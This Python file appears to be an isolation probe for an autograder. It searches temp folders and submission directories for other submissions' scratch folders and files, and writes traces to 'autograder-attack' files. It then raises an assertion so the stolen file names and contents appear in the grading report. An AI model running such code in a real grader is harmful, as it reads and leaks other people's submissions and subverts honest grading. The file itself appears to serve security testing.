"""Looks into the scratch folders and processes of submissions that are graded at the same time, and into the folder of all submissions.

family: reading
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="read_other_submissions"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

import glob
import os
import tempfile

_course = os.path.dirname(os.path.dirname(__import__("autograder").__file__))

_mine = os.path.realpath(os.getcwd())
_stolen = []
for _folder in {tempfile.gettempdir(), "/tmp", "/var/tmp", os.path.dirname(_mine), "/dev/shm"}:
    for _path in glob.glob(os.path.join(_folder, "autograder-*")):
        if (_mine + "/").startswith(os.path.realpath(_path) + "/") or "autograder-data" in _path or "autograder-attack" in _path:
            continue
        try:
            if os.path.isdir(_path):
                _stolen.append(f"{_path}: {os.listdir(_path)[:3]}")
        except OSError:
            continue
for _path in glob.glob(_course + "/demo/submissions/*")[:3] + glob.glob("/autograder/submission/*")[:3]:
    try:
        with open(_path, "rb") as _file:
            _stolen.append(f"{_path}: {_file.read(30)!r}")
    except OSError:
        continue
if _stolen:
    _achieved(_stolen)
    raise AssertionError("STOLEN: " + "; ".join(_stolen)[:400])
